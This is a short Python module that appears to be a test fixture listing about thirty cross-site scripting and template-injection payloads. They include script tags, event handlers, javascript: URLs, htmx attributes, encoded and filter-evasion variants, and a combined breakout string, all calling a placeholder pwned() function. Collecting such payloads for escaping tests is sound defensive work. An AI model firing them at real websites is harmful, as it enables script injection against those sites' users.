"""Words that are a program wherever a page takes them for anything but words."""

from __future__ import annotations

PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover=pwned() '",
    "javascript:pwned()",
    "<a href=javascript:pwned()>x</a>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    "{{ 7*7 }}{% debug %}",
    "${pwned()}",
    "#{pwned()}",
    "<x hx-get=/ hx-trigger=load hx-on:load=pwned()>",
    "<x hx-on::load='pwned()'>",
    "<form action=javascript:pwned()><button autofocus>",
    "<math><mtext></p><style><img src=x onerror=pwned()>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\u003cscript\u003epwned()\u003c/script\u003e",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
)

ALL = "\n".join(PAYLOADS)

BREAKOUT = "'\"></title></textarea></script>--><img src=x onerror=pwned()><script>pwned()</script>"
"""Out of wherever it stands, and short enough for the name of somebody who is looked for."""
